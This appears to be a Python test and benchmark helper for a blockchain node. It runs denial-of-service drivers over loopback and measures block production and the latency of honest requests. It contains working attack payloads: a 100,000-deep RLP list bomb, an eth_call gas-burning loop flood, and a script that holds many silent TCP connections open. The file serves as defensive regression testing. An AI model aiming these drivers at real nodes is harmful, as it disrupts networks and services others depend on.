"""Attack drivers against a real node over loopback, and a liveness probe (shared by tests and bench).

Each attack is a function ``attack(url, stop, **kw)`` that loops until ``stop`` is set; :func:`measure`
runs some of them in threads for a fixed time while it counts blocks and times an honest request.
Every run is bounded by its duration; the threads are daemons and are joined with a timeout.
"""

from __future__ import annotations

import socket
import statistics
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import httpx

#: ``JUMPDEST PUSH1 0 JUMP``: initcode that loops until it runs out of gas.
LOOP_INITCODE = "0x5b600056"

Attack = Callable[[str, threading.Event], None]


def _post(client: httpx.Client, url: str, method: str, *params: Any) -> Any:
    try:
        return client.post(url, json={"jsonrpc": "2.0", "id": 1, "method": method, "params": list(params)}).json()
    except (httpx.HTTPError, ValueError):
        return None


def rlp_bomb(url: str, stop: threading.Event) -> None:
    """``eth_sendRawTransaction`` with 100,000 nested one-byte lists (finding 1)."""
    bomb = "0x" + "c1" * 100_000
    with httpx.Client(timeout=30) as client:
        while not stop.is_set():
            _post(client, url, "eth_sendRawTransaction", bomb)


def call_flood(url: str, stop: threading.Event) -> None:
    """``eth_call`` of initcode that loops until 50M gas is spent (finding 2)."""
    with httpx.Client(timeout=60) as client:
        while not stop.is_set():
            _post(client, url, "eth_call", {"data": LOOP_INITCODE, "gas": hex(50_000_000)}, "latest")


def handshake_hold(host: str, port: int, stop: threading.Event, count: int = 64) -> None:
    """Open ``count`` TCP connections to the p2p port and never speak (finding 4)."""
    socks: list[socket.socket] = []
    try:
        while not stop.is_set():
            while len(socks) < count and not stop.is_set():
                s = socket.socket()
                s.settimeout(2)
                try:
                    s.connect((host, port))
                    socks.append(s)
                except OSError:
                    s.close()
                    break
            # the node closes them after its handshake deadline; reopen what it closed
            alive = []
            for s in socks:
                s.setblocking(False)
                try:
                    if s.recv(1) == b"":
                        s.close()
                        continue
                except BlockingIOError:
                    pass
                except OSError:
                    s.close()
                    continue
                alive.append(s)
            socks = alive
            stop.wait(0.2)
    finally:
        for s in socks:
            s.close()


@dataclass
class Liveness:
    """What one measured window looked like."""

    seconds: float
    blocks: int
    slots: int
    honest_latencies: list[float] = field(default_factory=list)
    honest_failures: int = 0

    @property
    def block_share(self) -> float:
        return self.blocks / self.slots if self.slots else 1.0

    @property
    def p50_ms(self) -> float:
        return statistics.median(self.honest_latencies) * 1000 if self.honest_latencies else float("nan")

    @property
    def max_ms(self) -> float:
        return max(self.honest_latencies) * 1000 if self.honest_latencies else float("nan")


def block_number(url: str, timeout: float = 10) -> int:
    r = httpx.post(url, json={"jsonrpc": "2.0", "id": 1, "method": "eth_blockNumber", "params": []},
                   timeout=timeout)
    return int(r.json()["result"], 16)


def measure(url: str, attacks: list[Callable[[threading.Event], None]], seconds: float,
            block_period: float = 1.0, warmup: float = 1.0) -> Liveness:
    """Run ``attacks`` (each ``f(stop)``) in threads for ``warmup + seconds``; count blocks produced in
    the measured window and time honest ``eth_blockNumber`` / ``eth_getBalance`` requests."""
    stop = threading.Event()
    threads = [threading.Thread(target=a, args=(stop,), daemon=True) for a in attacks]
    for t in threads:
        t.start()
    try:
        time.sleep(warmup)
        start_block = block_number(url, timeout=30)
        t0 = time.monotonic()
        out = Liveness(seconds, 0, 0)
        with httpx.Client(timeout=10) as client:
            while time.monotonic() - t0 < seconds:
                q0 = time.monotonic()
                resp = _post(client, url, "eth_getBalance", "0x" + "00" * 20, "latest")
                if resp is not None and "result" in resp:
                    out.honest_latencies.append(time.monotonic() - q0)
                else:
                    out.honest_failures += 1
                time.sleep(0.2)
        elapsed = time.monotonic() - t0
        out.blocks = block_number(url, timeout=30) - start_block
        out.slots = int(elapsed / block_period)
        out.seconds = elapsed
        return out
    finally:
        stop.set()
        for t in threads:
            t.join(15)
